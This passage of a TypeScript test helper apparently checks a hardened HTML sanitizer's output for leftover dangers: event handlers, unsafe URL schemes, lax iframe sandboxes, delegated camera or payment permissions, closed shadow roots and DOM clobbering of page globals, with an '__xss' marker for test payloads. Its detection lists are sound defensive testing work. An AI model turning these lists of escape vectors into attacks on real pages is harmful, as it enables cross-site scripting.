    .filter((token) => token && !/^\d+(?:\.\d+)?[wxh]$/i.test(token));
}

export const isExternal = (href: string): boolean => {
  try {
    const url = new URL(href, document.baseURI);
    return (url.protocol === 'http:' || url.protocol === 'https:') && url.origin !== location.origin;
  } catch {
    return false;
  }
};

/** Features an embed must not get from feed markup (a video player needs none of them). */
const POWERFUL_FEATURES =
  /\b(camera|microphone|geolocation|display-capture|usb|serial|hid|bluetooth|payment|clipboard-read|midi|publickey-credentials-(?:get|create)|identity-credentials-get|otp-credentials|local-fonts|window-management|storage-access)\b/i;

/** Elements that may host a shadow root: a closed one is found by trying to attach another. */
const SHADOW_HOSTS = 'article, aside, blockquote, div, footer, h1, h2, h3, h4, h5, h6, header, main, nav, p, section, span';

export interface DangerOptions {
  /** Hosts whose https iframes may stay. */
  embedHosts?: readonly string[];
  /** Also probe for closed shadow roots (attaches an empty open root to each possible host: do it last). */
  probeClosedShadowRoots?: boolean;
}

/**
 * Everything dangerous left under `root`, each as a short description (an
 * empty list means clean): the checks of a hardened sanitizer's output.
 */
export function findDanger(root: ParentNode, { embedHosts = EMBED_HOSTS, probeClosedShadowRoots = false }: DangerOptions = {}): string[] {
  const found: string[] = [];
  const elements = [...root.querySelectorAll('*')];
  for (const element of elements) {
    const tag = element.localName;
    const at = `<${tag}>`;
    if (FORBIDDEN_ELEMENTS.includes(tag)) found.push(`${at} element`);
    if (tag.includes('-')) found.push(`${at} custom element`);
    if (element.namespaceURI !== 'http://www.w3.org/1999/xhtml') found.push(`${at} in namespace ${element.namespaceURI}`);
    if (element.shadowRoot) found.push(`${at} has a shadow root`);
    for (const { name, localName, value } of [...element.attributes]) {
      const attr = `${at} ${name}="${value.slice(0, 60)}"`;
      if (/^on/i.test(localName)) found.push(`event handler ${attr}`);
      if (['style', 'srcdoc', 'formaction', 'action', 'ping', 'form'].includes(localName)) found.push(`attribute ${attr}`);
      if ((localName === 'id' || localName === 'name') && !value.startsWith('user-content-')) found.push(`unprefixed ${attr}`);
      // (On a link with rel=noreferrer the policy does not matter: no referrer is sent.)
      if (localName === 'referrerpolicy' && /^(unsafe-url|no-referrer-when-downgrade)$/i.test(value.trim()) && !/\bnoreferrer\b/i.test(element.getAttribute('rel') ?? ''))
        found.push(`referrer leak ${attr}`);
      if (!URL_ATTRIBUTES.includes(localName)) continue;
      const allowed = ONLY_HTTP.has(localName) ? ['http:', 'https:'] : ['http:', 'https:', 'mailto:'];
      const urls = localName === 'srcset' ? srcsetUrls(value) : [value];
      for (const url of urls) {
        const scheme = schemeOf(url);
        if (!allowed.includes(scheme)) found.push(`${scheme} URL in ${attr}`);
      }
    }
    if (tag === 'iframe') {
      const src = element.getAttribute('src');
      let url: URL | undefined;
      try {
        url = src ? new URL(src, document.baseURI) : undefined;
      } catch {
        url = undefined;
      }
      if (!url || url.protocol !== 'https:' || !embedHosts.includes(url.hostname)) found.push(`iframe from ${src ?? 'nowhere'}`);
      const sandbox = element.getAttribute('sandbox');
      if (sandbox === null) found.push(`iframe without sandbox: ${src}`);
      else if (/allow-top-navigation|allow-popups-to-escape-sandbox|allow-modals/.test(sandbox)) found.push(`iframe sandbox too lax: ${sandbox}`);
      // Permission delegation is the page's decision, not the feed's: the browser's prompt would name the portal.
      const delegated = (element.getAttribute('allow') ?? '').match(POWERFUL_FEATURES);
      if (delegated) found.push(`iframe delegated ${delegated[0]} (allow="${element.getAttribute('allow')}")`);
    }
    if (tag === 'a' || tag === 'area') {
      const href = element.getAttribute('href');
      const rel = (element.getAttribute('rel') ?? '').toLowerCase().split(/\s+/);
      const guarded = rel.includes('noopener') && rel.includes('noreferrer');
      if (element.hasAttribute('target') && !guarded) found.push(`${at} target="${element.getAttribute('target')}" without rel=noopener noreferrer`);
      if (href !== null && isExternal(href) && !guarded) found.push(`${at} to another origin (${href}) without rel=noopener noreferrer`);
    }
  }
  if (probeClosedShadowRoots) {
    for (const host of root.querySelectorAll(SHADOW_HOSTS)) {
      if (host.shadowRoot) continue;
      try {
        host.attachShadow({ mode: 'open' });
      } catch {
        found.push(`<${host.localName}> has a closed shadow root`);
      }
    }
  }
  return found;
}

/**
 * What clobbering or a navigation would have broken on the page: the
 * globals a payload aims at, still what they should be. Empty when intact.
 */
export function clobberedGlobals(): string[] {
  const broken: string[] = [];
  if (typeof document.cookie !== 'string') broken.push('document.cookie');
  if (typeof document.getElementById !== 'function') broken.push('document.getElementById');
  if (typeof document.createElement !== 'function') broken.push('document.createElement');
  if (document.defaultView !== window) broken.push('document.defaultView');
  if (!(document.body instanceof HTMLBodyElement)) broken.push('document.body');
  if (document.location !== window.location) broken.push('document.location');
  if ('__xss_hit' in window && window.__xss_hit !== undefined) broken.push('window.__xss_hit');
  if ('config' in window) broken.push('window.config');
  if (document.querySelector('base')) broken.push('a <base> in the document');
  if (document.querySelector('meta[http-equiv]')) broken.push('a <meta http-equiv> in the document');
  return broken;
}

declare global {
  interface Window {
    /** The marker every payload calls when it manages to run. */
    __xss?: (id: unknown) => void;
    __xss_hit?: unknown;
  }
}
